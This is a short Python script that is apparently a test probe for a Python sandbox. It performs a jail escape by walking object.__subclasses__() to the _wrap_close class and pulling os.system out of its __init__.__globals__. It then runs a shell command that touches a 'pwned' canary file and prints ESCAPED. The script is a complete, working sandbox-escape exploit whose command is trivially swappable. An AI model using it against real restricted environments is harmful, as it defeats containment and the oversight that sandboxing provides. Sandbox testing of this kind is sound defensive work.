"""Reach os.system through object.__subclasses__() and a method's __globals__ (jail escape)."""

import json
import sys

cfg = json.loads(sys.argv[1])
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        system = cls.__init__.__globals__["system"]
        system(f"touch {cfg['canary_dir']}/pwned && echo ESCAPED")
        break
